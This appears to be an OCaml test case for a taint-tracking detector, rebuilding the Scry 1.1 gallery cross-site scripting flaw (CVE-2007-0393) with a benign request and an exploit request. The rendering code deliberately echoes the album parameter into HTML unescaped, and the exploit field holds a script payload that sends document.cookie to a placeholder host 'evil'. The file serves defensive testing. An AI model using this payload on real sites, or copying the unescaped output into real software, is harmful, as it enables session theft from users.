(* Scry 1.1 gallery cross-site scripting (CVE-2007-0393 class).

   The gallery echoes the requested album name into the page without
   escaping.  A request whose album parameter embeds a <script> tag gets
   it reflected to every viewer.  The album name is network data
   (tainted); writing the page is the H5 sink. *)

open Build
open Build.Infix

let program =
  {
    Ir.globals = [];
    funcs =
      [
        func "emit" ~params:[ "s" ] ~locals:[]
          [ Ir.Expr (call "sys_html_out" [ v "s"; call "strlen" [ v "s" ] ]); ret0 ];
        (* find "album=" in the request and return a pointer to a
           NUL-terminated copy on the heap *)
        func "album_of_request" ~params:[ "req" ]
          ~locals:[ scalar "p"; scalar "name"; scalar "k"; scalar "ch" ]
          [
            set "p" (call "strstr" [ v "req"; str "album=" ]);
            when_ (v "p" ==: i 0) [ ret (i 0) ];
            set "p" (v "p" +: i 6);
            set "name" (call "malloc" [ i 256 ]);
            set "k" (i 0);
            while_ (v "k" <: i 255)
              [
                set "ch" (load8 (v "p" +: v "k"));
                when_
                  ((v "ch" ==: i 0) ||: (v "ch" ==: i (Char.code ' '))
                  ||: (v "ch" ==: i (Char.code '&')))
                  [ Ir.Break ];
                store8 (v "name" +: v "k") (v "ch");
                set "k" (v "k" +: i 1);
              ];
            store8 (v "name" +: v "k") (i 0);
            ret (v "name");
          ];
        func "render_gallery" ~params:[ "album" ]
          ~locals:[ array "line" 512; scalar "k" ]
          [
            ecall "emit" [ str "<html><body>" ];
            Ir.Expr (call "sprintf1" [ v "line"; str "<h1>Album: %s</h1>"; v "album" ]);
            ecall "emit" [ v "line" ];
            (* thumbnail grid *)
            ecall "emit" [ str "<table>" ];
            set "k" (i 0);
            while_ (v "k" <: i 4)
              [
                Ir.Expr
                  (call "sprintf2"
                     [ v "line"; str "<tr><td><img src=\"%s/%d.jpg\"></td></tr>"; v "album"; v "k" ]);
                ecall "emit" [ v "line" ];
                set "k" (v "k" +: i 1);
              ];
            ecall "emit" [ str "</table></body></html>" ];
            ret0;
          ];
        func "main" ~params:[] ~locals:[ scalar "sock"; array "req" 512; scalar "album" ]
          [
            set "sock" (call "sys_accept" []);
            when_ (v "sock" <: i 0) [ ret (i 1) ];
            Ir.Expr (call "sys_recv" [ v "sock"; v "req"; i 512 ]);
            set "album" (call "album_of_request" [ v "req" ]);
            when_ (v "album" ==: i 0) [ ret (i 2) ];
            ecall "render_gallery" [ v "album" ];
            ret (i 0);
          ];
      ];
  }

let policy = { Shift_policy.Policy.default with Shift_policy.Policy.h5 = true }

let case =
  {
    Attack_case.cve = "CVE-2007-0393";
    program_name = "Scry (1.1)";
    language = "PHP";
    attack_type = "Cross Site Scripting";
    detection_policies = "H5 + Low level policies";
    expected_policy = "H5";
    program;
    policy;
    benign =
      (fun w -> Shift_os.World.queue_request w "GET /scry.php?album=summer2006 HTTP/1.0");
    exploit =
      (fun w ->
        Shift_os.World.queue_request w
          "GET /scry.php?album=<script>document.location='http://evil/'+document.cookie</script> HTTP/1.0");
    provenance = None;
    images = [];
    multiproc = None;
    variants = None;
    cache = Shift.Session.image_cache ();
  }
